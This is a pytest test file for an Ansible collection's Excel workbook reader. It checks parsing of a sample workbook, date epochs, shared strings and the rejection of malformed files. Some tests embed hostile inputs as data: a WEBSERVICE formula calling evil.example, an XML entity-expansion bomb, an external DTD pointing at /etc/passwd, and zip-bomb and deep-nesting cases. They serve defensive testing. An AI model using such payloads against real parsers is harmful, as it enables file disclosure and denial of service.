# Copyright (c) 2026 tcx.m365 contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Excel workbooks: one that openpyxl has written, and ones that somebody has made to do harm."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from ansible_collections.tcx.m365.plugins.plugin_utils._list import workbook
from ansible_collections.tcx.m365.plugins.plugin_utils._list.model import BadList

CUSTOMERS = (Path(__file__).parent / "customers.xlsx").read_bytes()

WORKBOOK = (
    '<workbook xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main" xmlns:r="http://purl.oclc.org/ooxml/officeDocument/relationships">'
    '<workbookPr date1904="1"/><sheets><sheet name="One" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
RELATIONS = '<Relationships xmlns="r"><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>'


def made(rows: str, **parts: str) -> bytes:
    """A workbook with one sheet, in the strict dialect of the format."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in {
            "xl/workbook.xml": WORKBOOK,
            "xl/_rels/workbook.xml.rels": RELATIONS,
            "xl/worksheets/sheet1.xml": f"<worksheet><sheetData>{rows}</sheetData></worksheet>",
            **{f"xl/{name}.xml": text for name, text in parts.items()},
        }.items():
            archive.writestr(name, text)
    return content.getvalue()


def inline(text: str) -> str:
    return f'<c t="inlineStr"><is><t>{text}</t></is></c>'


HEADER = f"<row>{inline('Name')}{inline('Value')}</row>"


def test_a_real_workbook() -> None:
    table = workbook.read(CUSTOMERS, "customers.xlsx", sheet="customers", header_row=3)
    first, second = table.rows
    assert {name: cell.value for name, cell in first.cells.items() if not cell.problem} == {
        "Customer": "Müller & Söhne",
        "FQDN": "pbx.mueller.example:5001",
        "Tenant ID": "6f1c0f6e-4c0c-4d4b-9a53-0f4f1c5b7a10",
        "Extension": "0200",
        "Since": "2024-02-29",
        "Active": "true",
        "Edition": "20.5",
    }
    assert first.cells["Extension"].place == "cell D4"
    assert "formula without a saved value" in first.cells["Computed"].problem
    assert "more than 15 digits" in first.cells["License"].problem
    assert second.cells["Since"].value == "2024-02-29T13:30:00"
    assert second.cells["Edition"].problem == "holds the error '#N/A'"


def test_a_sheet_that_is_not_there_names_those_that_are() -> None:
    with pytest.raises(BadList, match="has no sheet 'Kunden'; it has: 'Notes', 'Customers'"):
        workbook.read(CUSTOMERS, "customers.xlsx", sheet="Kunden")


def test_the_saved_value_of_a_formula_counts() -> None:
    row = f'<row>{inline("a")}<c t="str"><f>WEBSERVICE("https://evil.example")</f><v>b</v></c></row>'
    assert workbook.read(made(HEADER + row), "x").rows[0].cells["Value"].value == "b"


def test_dates_count_from_the_epoch_of_the_workbook() -> None:
    styles = '<styleSheet><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/></cellXfs></styleSheet>'
    row = f'<row>{inline("a")}<c s="1"><v>0</v></c></row>'
    assert workbook.read(made(HEADER + row, styles=styles), "x").rows[0].cells["Value"].value == "1904-01-01"


def test_texts_in_pieces_and_readings() -> None:
    shared = "<sst><si><r><t>ac</t></r><r><t>me_x000A_</t></r><rPh><t>reading</t></rPh></si></sst>"
    row = f'<row>{inline("a")}<c t="s"><v>0</v></c></row><row>{inline("b")}<c t="s"><v>7</v></c></row>'
    first, second = workbook.read(made(HEADER + row, sharedStrings=shared), "x").rows
    assert first.cells["Value"].value == "acme"
    assert second.cells["Value"].problem == "refers to a text that is missing"


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE x SYSTEM "file:///etc/passwd">',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_no_entities_and_no_files(declared: str, encoding: str) -> None:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        archive.writestr("xl/workbook.xml", f"{declared}<workbook>&b;</workbook>".encode(encoding))
    with pytest.raises(BadList, match="declares a document type"):
        workbook.read(content.getvalue(), "x")


def test_a_bomb_is_not_unpacked() -> None:
    with pytest.raises(BadList, match="unpacks to more than 32 MiB"):
        workbook.read(made(HEADER + " " * (workbook.PART_BYTES + 1)), "x")
    with pytest.raises(BadList, match="nests too deeply"):
        workbook.read(made("<a>" * 100 + "</a>" * 100), "x")


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "protected by a password or is an old .xls"),
        (b"Name,URL\n", "is not an Excel workbook"),
        (CUSTOMERS[:3000], "is not an Excel workbook"),
        (made("<row"), "is not an Excel workbook"),
        (made(""), "has no row 1"),
        (made(f"<row>{inline('Name')}{inline('Name')}</row>"), "cell B1: there are two columns 'Name'"),
    ],
)
def test_what_is_no_workbook(content: bytes, said: str) -> None:
    with pytest.raises(BadList) as caught:
        workbook.read(content, "x")
    assert said in caught.value.message
